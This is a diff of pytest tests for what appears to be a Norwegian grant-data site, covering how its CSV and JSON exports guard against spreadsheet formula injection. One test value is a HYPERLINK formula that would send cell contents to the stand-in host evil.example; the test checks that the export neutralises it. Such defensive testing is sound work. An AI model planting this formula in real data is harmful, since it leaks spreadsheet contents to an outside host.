@@ -135,3 +135,56 @@ def test_data_files_cost_one_query_however_many_grants(client):
         programme = make_programme()
         make_grant(programme, phase=make_phase(programme))
     assert (count("/nn/funding/grants.csv"), count("/nn/funding/grants.json")) == before
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(client, start):
+    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1,"KMD")'
+    programme = make_programme(title_nn=hostile, total_budget=Decimal("6600000"))
+    make_grant(programme, funder_nn=hostile, source_url=hostile, amount=Decimal("2680000"))
+
+    response = client.get("/nn/funding/grants.csv")
+    (row,) = csv_rows(response)
+    assert row["programme"] == row["funder"] == row["source_url"] == "'" + hostile
+    # The numbers stay plain numbers, unquoted, for a spreadsheet to sum.
+    assert row["amount_nok"] == "2680000" and row["share_of_total_budget"] == "0.4061"
+    assert ",2680000," in response.content.decode()
+
+    (grant,) = json.loads(client.get("/nn/funding/grants.json").content)["grants"]
+    assert grant["programme"] == grant["funder"] == grant["source_url"] == hostile
+    assert grant["amount_nok"] == 2680000
+
+
+def test_csv_keeps_ordinary_text_and_quotes_every_text_cell(client):
+    """Text that only looks like a number is still text; a separator cannot start a cell."""
+    programme = make_programme(title_nn="Prøve")
+    make_grant(programme, funder_nn="-5 % frå fondet", amount=Decimal("1234.50"))
+    make_grant(programme, funder_nn="KMD;=1+1", amount=Decimal("10"))
+    make_grant(programme, funder_nn="Kommune 'Ål'", amount=Decimal("20"))
+
+    response = client.get("/nn/funding/grants.csv")
+    rows = csv_rows(response)
+    assert [row["funder"] for row in rows] == ["'-5 % frå fondet", "KMD;=1+1", "Kommune 'Ål'"]
+    body = response.content.decode()
+    # Norwegian Excel splits on semicolons: inside quotes, the formula stays in its cell.
+    assert '"KMD;=1+1"' in body
+    assert ",1234.50," in body and '"Prøve"' in body
+    data = json.loads(client.get("/nn/funding/grants.json").content)
+    assert [grant["funder"] for grant in data["grants"]] == [
+        "-5 % frå fondet",
+        "KMD;=1+1",
+        "Kommune 'Ål'",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("language", "text"),
+    [
+        ("nn", "får ein apostrof (') framfor seg"),
+        ("nb", "får en apostrof (') foran seg"),
+        ("en", "gets an apostrophe (') in front"),
+    ],
+)
+def test_the_page_says_how_the_csv_file_keeps_formulas_out(client, language, text):
+    html = client.get(f"/{language}/funding/open-data/").content.decode()
+    assert text in " ".join(html.split())
